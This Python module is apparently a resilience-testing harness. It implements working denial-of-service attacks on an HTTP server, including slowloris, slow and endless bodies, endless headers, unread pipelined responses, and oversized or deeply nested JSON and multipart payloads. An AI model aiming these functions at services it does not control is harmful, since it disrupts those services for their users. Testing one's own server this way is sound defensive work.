"""What a hostile client sends to a server, one function an attack.

Each attack opens its connections from `Target.source`, keeps on until the server ends them or
`seconds` are over, and returns how its connections ended: a status, `closed`, or `open`.
"""

import asyncio
import socket
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from urllib.parse import urlsplit

Ends = Counter[str]
Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]

CHUNK = b"x" * 65_536


@dataclass(frozen=True, kw_only=True)
class Target:
    """What is attacked. `source` is an address of this machine, as 127.0.0.2."""

    url: str
    path: str
    source: str = "127.0.0.2"
    seconds: float = 5
    key: str = ""

    @property
    def address(self) -> tuple[str, int]:
        parts = urlsplit(self.url)
        assert parts.hostname and parts.port
        return parts.hostname, parts.port

    def head(self, *headers: str, method: str = "POST") -> bytes:
        host, port = self.address
        lines = [f"{method} {self.path} HTTP/1.1", f"Host: {host}:{port}", *headers]
        if self.key:
            lines.append(f"Authorization: Bearer {self.key}")
        return "\r\n".join([*lines, "", ""]).encode()


@asynccontextmanager
async def connected(target: Target) -> AsyncIterator[Connection]:
    own = socket.socket()
    own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read stays there
    own.setblocking(False)
    own.bind((target.source, 0))
    await asyncio.get_running_loop().sock_connect(own, target.address)
    reader, writer = await asyncio.open_connection(sock=own)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def end_of(reader: asyncio.StreamReader) -> str:
    """The status of a response, or `closed`."""
    try:
        line = await reader.readline()
    except ConnectionError:
        return "closed"
    return line.split()[1].decode() if line else "closed"


Sender = Callable[[asyncio.StreamWriter], Awaitable[None]]


async def one(target: Target, send: Sender) -> str:
    """How one connection ends that `send` writes to."""
    try:
        async with asyncio.timeout(target.seconds), connected(target) as (reader, writer):
            sending = asyncio.ensure_future(send(writer))
            try:
                return await end_of(reader)
            finally:
                sending.cancel()
                await asyncio.gather(sending, return_exceptions=True)
    except TimeoutError:
        return "open"
    except OSError:
        return "closed"


async def many(target: Target, count: int, send: Sender) -> Ends:
    return Counter(await asyncio.gather(*(one(target, send) for _ in range(count))))


async def idle_connections(target: Target, count: int) -> Ends:
    """Connect, and send nothing."""

    async def send(_writer: asyncio.StreamWriter) -> None:
        pass

    return await many(target, count, send)


async def announced_bodies(target: Target, count: int, size: int) -> Ends:
    """Announce bodies that never come."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(target.head(f"Content-Length: {size}", "Content-Type: application/json"))

    return await many(target, count, send)


async def slow_headers(target: Target, count: int) -> Ends:
    """Send a header that grows by a byte at a time (slow loris)."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(target.head()[:-2] + b"X-Slow: ")
        while True:
            writer.write(b"x")
            await asyncio.sleep(0.05)

    return await many(target, count, send)


async def slow_bodies(target: Target, count: int, size: int) -> Ends:
    """Send half a body at once, and the rest by a byte at a time."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(target.head(f"Content-Length: {size}", "Content-Type: application/json"))
        writer.write(b'{"textQuery": "' + b"x" * (size // 2))
        while True:
            await writer.drain()
            writer.write(b"x")
            await asyncio.sleep(0.05)

    return await many(target, count, send)


async def large_bodies(
    target: Target, count: int, body: bytes, kind: str = "application/json"
) -> Ends:
    """Send the same body on many connections at once, as fast as it is taken."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(target.head(f"Content-Length: {len(body)}", f"Content-Type: {kind}"))
        for start in range(0, len(body), len(CHUNK)):
            writer.write(body[start : start + len(CHUNK)])
            await writer.drain()

    return await many(target, count, send)


async def endless_header(target: Target, count: int = 1) -> Ends:
    """Send one header without end."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(target.head()[:-2] + b"X-Long: ")
        while True:
            writer.write(CHUNK)
            await writer.drain()

    return await many(target, count, send)


async def endless_headers(target: Target, count: int = 1) -> Ends:
    """Send small headers without end."""

    async def send(writer: asyncio.StreamWriter) -> None:
        writer.write(target.head()[:-2])
        while True:
            writer.write(b"X-Small: x\r\n" * 1000)
            await writer.drain()

    return await many(target, count, send)


async def endless_trailers(target: Target, count: int = 1) -> Ends:
    """Send the trailers of a chunked body without end."""

    async def send(writer: asyncio.StreamWriter) -> None:
        head = target.head("Transfer-Encoding: chunked", "Content-Type: application/json")
        writer.write(head + b"2\r\n{}\r\n0\r\n")
        while True:
            writer.write(b"X-Small: x\r\n" * 1000)
            await writer.drain()

    return await many(target, count, send)


async def endless_body(target: Target, count: int = 1) -> Ends:
    """Send a chunked body without end."""

    async def send(writer: asyncio.StreamWriter) -> None:
        head = target.head("Transfer-Encoding: chunked", "Content-Type: application/json")
        writer.write(head)
        while True:
            writer.write(b"%x\r\n%s\r\n" % (len(CHUNK), CHUNK))
            await writer.drain()

    return await many(target, count, send)


async def unread_responses(target: Target, count: int) -> Ends:
    """Ask for much on one connection, and read nothing of it."""

    async def send(writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(target.head(method="GET") * 100)
            await writer.drain()

    async def unread() -> str:
        try:
            async with asyncio.timeout(target.seconds), connected(target) as (_, writer):
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                await send(writer)
        except TimeoutError:
            return "open"
        except OSError:
            return "closed"
        return "closed"

    return Counter(await asyncio.gather(*(unread() for _ in range(count))))


BOUNDARY = "b"


def hostile_forms(size: int) -> dict[str, bytes]:
    """Forms with the boundary `BOUNDARY` that are large for their server to look at."""
    part = b'--b\r\nContent-Disposition: form-data; name="%s"\r\n\r\n'
    keys = b",".join(b'"k%07d":1' % number for number in range(min(size, 1_000_000) // 13))
    return {
        "boundaries that are none": part % b"file" + b"\r\n--bx" * (size // 6) + b"\r\n--b--\r\n",
        "parts": (part % b"a" + b"\r\n") * (size // 52) + b"--b--\r\n",
        "headers": b"--b\r\n" + b"X: y\r\n" * (size // 6),
        "keys": part % b"filters" + b"{" + keys + b"}\r\n--b--\r\n",
    }


def hostile_bodies(size: int) -> dict[str, bytes]:
    """JSON that is large for its server to look at, each of about `size` bytes."""

    def filled(start: bytes, item: bytes, end: bytes = b"") -> bytes:
        return start + item * ((size - len(start) - len(end)) // len(item)) + end

    keys = b",".join(b'"k%07d":1' % number for number in range(size // 13))
    return {
        "unknown keys": b"{" + keys + b"}",
        "option keys": b'{"filters":{"options":{' + keys + b"}}}",
        "numbers for texts": filled(b'{"texts":[', b"0,", b"0]}"),
        "numbers for inputs": filled(b'{"input":[', b"0,", b"0]}"),
        "short strings": filled(b'{"texts":[', b'"ab",', b'"ab"]}'),
        "short inputs": filled(b'{"input":[', b'"ab",', b'"ab"]}'),
        "short skus": filled(b'{"filters":{"skus":[', b'"ab",', b'"ab"]}}'),
        "empty photos": filled(b'{"images":[', b"{},", b"{}]}"),
        "nested lists": filled(b'{"x":', b"["),
        "nested objects": filled(b"", b'{"filters":'),
        "long number": filled(b'{"limit":', b"9", b"}"),
        "long price": filled(b'{"filters":{"minPrice":"', b"9", b'"}}'),
        "long string": filled(b'{"textQuery":"', b"a", b'","encoding_format":"x"}'),
        "same key": filled(b"{", b'"limit":1,', b'"limit":1}'),
        "surrogates": filled(b'{"textQuery":"', b"\\ud800", b'"}'),
        "backslashes": filled(b'{"textQuery":"\\u', b'\\"'),
        "no UTF-8": filled(b'{"textQuery":"', b"\xff", b'"}'),
    }
